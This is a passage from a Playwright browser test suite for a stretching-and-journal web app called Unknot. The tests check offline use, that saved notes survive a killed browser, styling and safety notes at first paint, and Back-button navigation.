  // No network at all from here: the server is gone and the browser is offline.
  await own.close();
  await context.setOffline(true);
  await page.reload();
  await page.getByRole("heading", { name: "Unknot", level: 1 }).waitFor();
  await page.clock.pauseAt(T0 + 120_000);
  await runRoutineToDone(page, "calves-ball", "Calves with a tennis ball");
  await page.getByRole("link", { name: "Log how you feel" }).tap();
  await logNote(page, "Offline, on the track");
  await tab(page, "Journal").tap();
  await page.getByText("Offline, on the track").waitFor();
  // The run-file parsers were never fetched in this visit; the service worker cached them with the app.
  await page.goto(own.url + "/journal/runs/new");
  await page.getByLabel("Import a run file").setInputFiles(path.join(ROOT, "tests", "fixtures", "thursday-long-run.gpx"));
  await page.getByRole("status").getByText(/Imported thursday-long-run\.gpx: a long run of 19\.\d km/).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

/** Chromium as its own process (so the test can kill it), driven over CDP, with a profile kept on disk. */
async function spawnChromium(profile) {
  const { spawn } = await import("node:child_process");
  const net = await import("node:net");
  const port = await new Promise((resolve) => {
    const s = net.createServer().listen(0, "127.0.0.1", () => { const p = s.address().port; s.close(() => resolve(p)); });
  });
  const args = [...CHROMIUM_ARGS, `--user-data-dir=${profile}`, `--remote-debugging-port=${port}`, "about:blank"];
  const child = spawn(process.env.CHROMIUM ?? "/usr/bin/chromium", args, { detached: true, stdio: "ignore" });
  const endpoint = `http://127.0.0.1:${port}`;
  for (let i = 0; ; i++) {
    try { if ((await fetch(`${endpoint}/json/version`)).ok) break; } catch { /* not up yet */ }
    if (i > 200) throw new Error("chromium did not start");
    await new Promise((r) => setTimeout(r, 50));
  }
  const cdp = await chromium.connectOverCDP(endpoint);
  const context = cdp.contexts()[0];
  const page = context.pages()[0] ?? (await context.newPage());
  // SIGKILL to the whole process group: the browser and its renderers die at once, with no chance to flush.
  return { page, kill: () => process.kill(-child.pid, "SIGKILL"), exited: new Promise((r) => child.on("exit", r)) };
}

/** Counts IndexedDB read-write transactions begun and finished (complete, or failed), in window.__idb. */
const IDB_WATCH = `
  window.__idb = { started: 0, done: 0 };
  const transaction = IDBDatabase.prototype.transaction;
  IDBDatabase.prototype.transaction = function (...args) {
    const t = transaction.apply(this, args);
    if (t.mode === "readwrite") {
      window.__idb.started++;
      let ended = false;
      const end = () => { if (!ended) { ended = true; window.__idb.done++; } };
      for (const ev of ["complete", "abort", "error"]) t.addEventListener(ev, end);
    }
    return t;
  };
`;

test("(q) a note shown as saved survives the browser being killed right after", async () => {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "unknot-kill-"));
  const texts = Array.from({ length: Number(process.env.UNKNOT_KILLS ?? 3) }, (_, i) => `Kept ${i + 1}`);
  let first = true;
  const pendingAtAck = [];
  for (const text of texts) {
    const b = await spawnChromium(profile);
    await b.page.addInitScript(IDB_WATCH);
    await b.page.goto(server.url + "/journal/log");
    if (first) {
      await ownUnderstand(b.page).click();
      await b.page.goto(server.url + "/journal/log");
      first = false;
    }
    await b.page.getByRole("heading", { name: "How do you feel?" }).waitFor();
    // The browser is killed the moment the app shows the note as saved (the page calls back as soon as the
    // note's page is in the DOM), not when the test next looks; at that moment, no IndexedDB write may still
    // be under way (a kill then could lose it, however fast this machine usually is).
    await b.page.exposeBinding("__acknowledged", (_, pending) => {
      pendingAtAck.push(pending);
      b.kill();
    });
    await b.page.evaluate((text) => {
      new MutationObserver((_, o) => {
        if (document.body.innerText.includes("Feel 4/5 · Good") && document.body.innerText.includes(text)) {
          o.disconnect();
          window.__acknowledged(window.__idb.started - window.__idb.done);
          // And nothing more runs in this page until the kill: a write the app had only queued when it said
          // "saved" (IndexedDB commits a transaction once the task that made it ends) is lost, every time,
          // however fast this machine would otherwise have flushed it.
          const until = performance.now() + 20_000;
          while (performance.now() < until) { /* the page is frozen; the browser is being killed */ }
        }
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    }, text);
    await b.page.getByRole("radio", { name: /4 of 5/ }).click();
    await b.page.getByLabel("Note").fill(text);
    await b.page.getByRole("button", { name: "Save note" }).click().catch(() => { /* killed before it returned */ });
    await b.exited;
  }
  const context = await launchPersistent(profile);
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(server.url + "/journal");
  await page.getByRole("heading", { name: "History" }).waitFor();
  assert.deepEqual(pendingAtAck, texts.map(() => 0), "IndexedDB writes still under way when the note was shown as saved");
  for (const text of texts) {
    assert.equal(await page.getByText(text, { exact: true }).count(), 1, `"${text}" was shown as saved, then lost when the browser was killed`);
  }
  await context.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

test("(r) the first frame with content is styled: the app's stylesheet is in the page before its first element", async () => {
  const context = await browser.newContext(PHONE);
  // When the first level-1 heading enters the DOM, is the app's stylesheet already there?
  await context.addInitScript(`
    new MutationObserver((_, o) => {
      const h = document.querySelector("#main h1");
      if (!h) return;
      o.disconnect();
      const rules = [...document.styleSheets].flatMap((s) => [...s.cssRules].map((r) => r.selectorText ?? ""));
      window.__styledAtFirstHeading = rules.some((sel) => sel.includes(".tabbar"));
    }).observe(document, { childList: true, subtree: true });
  `);
  const page = await context.newPage();
  await page.goto(server.url + "/");
  await page.getByRole("button", { name: "I understand" }).waitFor();
  assert.equal(await page.evaluate(() => window.__styledAtFirstHeading), true);
  await context.close();
});

test("(s) a first visit draws the safety notes before the app has loaded, in the page's first paint, the same as the app's; a tap there counts; a returning visit never sees them", async () => {
  const context = await browser.newContext(PHONE);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  // The app's wasm is held back until the page's own first screen has been read and tapped.
  let release;
  const held = new Promise((resolve) => { release = resolve; });
  await page.route("**/pkg/unknot_bg.wasm", async (route) => { await held; await route.continue(); });
  const modal = () => page.evaluate(() => {
    const shown = [...document.querySelectorAll("#main .modal")].filter((m) => m.checkVisibility());
    return shown.map((m) => ({ early: !!m.closest(".before-app"), text: m.innerText, height: Math.round(m.getBoundingClientRect().height) }));
  });

  // When the page's first screen is added, by the page's clock, to compare with the first contentful paint.
  await context.addInitScript(() => {
    new MutationObserver((_, watch) => {
      if (document.getElementById("first-screen-early")) { window.__earlyAt = performance.now(); watch.disconnect(); }
    }).observe(document, { childList: true, subtree: true });
  });
  await page.goto(server.url + "/");
  await page.getByRole("heading", { name: "Before you start" }).waitFor();
  assert.equal(await page.evaluate(() => unknotAppStarted()), false, "the app has not started: its wasm is held back");
  // The notes are the page's first paint (W3C Paint Timing: the first contentful paint comes after they were
  // added), not "Loading Unknot…" first and the notes a frame or more later.
  const [earlyAt, fcp] = await page.evaluate(() => new Promise((resolve) => new PerformanceObserver((list, obs) => {
    const e = list.getEntries().find((p) => p.name === "first-contentful-paint");
    if (e) { obs.disconnect(); resolve([window.__earlyAt, e.startTime]); }
  }).observe({ type: "paint", buffered: true })));
  assert.ok(earlyAt <= fcp, `the notes were added at ${earlyAt} ms, after the first contentful paint at ${fcp} ms`);
  const early = await modal();
  assert.equal(early.length, 1);
  assert.equal(early[0].early, true);
  assert.deepEqual(await axeViolations(page), [], "the page's own first screen passes axe-core as the app's does");
  await page.getByRole("button", { name: "I understand" }).tap();
  await page.getByRole("status").filter({ hasText: "Opening your journal…" }).waitFor();
  // A reload before the app has started does not ask again.
  await page.reload({ waitUntil: "domcontentloaded" });
  // The page decides once its first-visit question is answered (a callback queued before this one).
  await page.evaluate(() => unknotFirstVisit.then(() => new Promise((resolve) => requestAnimationFrame(resolve))));
  assert.equal(await page.evaluate(() => unknotAppStarted()), false, "the app has still not started");
  assert.equal(await page.getByRole("heading", { name: "Before you start" }).count(), 0, "not asked again after a reload");
  release();
  // The app starts, takes the tap as its own, opens the journal and goes on to Home.
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
  assert.equal(await page.getByRole("button", { name: "I understand" }).count(), 0);

  // A returning visit: Home, never the page's first screen, even with the fallback marker gone (the
  // acknowledgement is in the journal itself).
  await page.evaluate(() => localStorage.removeItem("unknot.safety.acknowledged"));
  await context.addInitScript(() => {
    new MutationObserver(() => { if (document.getElementById("first-screen-early")) window.__earlyScreen = true; })
      .observe(document, { childList: true, subtree: true });
  });
  await page.reload();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
  assert.equal(await page.evaluate(() => window.__earlyScreen ?? false), false);
  assert.equal(await page.getByRole("button", { name: "I understand" }).count(), 0);
  // The page knows a returning visit while it is parsed, by the marker the app sets when the journal opens.
  // A journal kept by a version before that marker: the page draws the notes at once, the browser's answer
  // (there is a journal) takes them away, and the app, which opens on Home, sets the marker again.
  assert.equal(await page.evaluate(() => localStorage.getItem("unknot.journal.kept")), "1");
  await page.evaluate(() => localStorage.removeItem("unknot.journal.kept"));
  await page.reload();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
  await page.evaluate(() => unknotFirstVisit);
  assert.equal(await page.evaluate(() => document.getElementById("first-screen-early")), null, "the page's notes are taken away");
  assert.equal(await page.getByRole("button", { name: "I understand" }).count(), 0);
  assert.equal(await page.evaluate(() => localStorage.getItem("unknot.journal.kept")), "1");
  await context.close();

  // Another first visit: the page's first screen and the app's own are the same, text and size, and the
  // page's gives way when the app's is there (one dialog on screen at any time).
  const second = await browser.newContext(PHONE);
  const p2 = await second.newPage();
  p2.on("pageerror", (e) => errors.push(e));
  let release2;
  const held2 = new Promise((resolve) => { release2 = resolve; });
  await p2.route("**/pkg/unknot_bg.wasm", async (route) => { await held2; await route.continue(); });
  await p2.goto(server.url + "/");
  await p2.getByRole("heading", { name: "Before you start" }).waitFor();
  const before = await p2.evaluate(() => {
    const m = document.querySelector("#first-screen-early .modal");
    return { text: m.innerText, height: Math.round(m.getBoundingClientRect().height) };
  });
  release2();
  await p2.waitForFunction(() => unknotAppStarted());
  const after = await p2.evaluate(() => {
    const shown = [...document.querySelectorAll("#main .modal")].filter((m) => m.checkVisibility());
    return shown.map((m) => ({ early: !!m.closest(".before-app"), text: m.innerText, height: Math.round(m.getBoundingClientRect().height) }));
  });
  assert.equal(after.length, 1, "one dialog on screen");
  assert.equal(after[0].early, false, "the app's own");
  assert.equal(after[0].text, before.text);
  assert.equal(after[0].height, before.height);
  await p2.getByRole("button", { name: "I understand" }).tap();
  await p2.getByRole("heading", { name: "Unknot" }).waitFor();
  await second.close();
  assert.deepEqual(errors, []);
});

test("(t) Back after a finished session leaves it behind: from Home it returns to the routine, not into a new session", async () => {
  const { page, context, errors } = await newPage();
  const [id, name] = ["hamstrings-roller", "Hamstrings on the foam roller"];
  // In-app navigation only, so the browser's history holds every screen a phone's Back button would visit.
  await tab(page, "Routines").tap();
  await page.getByRole("link", { name: new RegExp(name) }).first().tap();
  await page.getByRole("button", { name: `Start ${name}` }).tap();
  await page.getByText("Get ready").waitFor();
  await page.clock.runFor(expectedCues(routineSteps(id)).total + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  await page.getByRole("link", { name: "Back to home" }).tap();
  await page.getByRole("heading", { name: "Unknot", level: 1 }).waitFor();
  await page.goBack();
  await page.getByRole("heading", { name, exact: true }).waitFor();
  await page.clock.runFor(3000);
  assert.equal(await page.getByText("Get ready").count(), 0, "no session started again");
  const wakes = (await cues(page)).filter((e) => e.type === "wake").length;
  assert.equal(wakes, 1, "the screen was kept awake for one session only");
  assert.deepEqual(errors, []);
  await context.close();
});
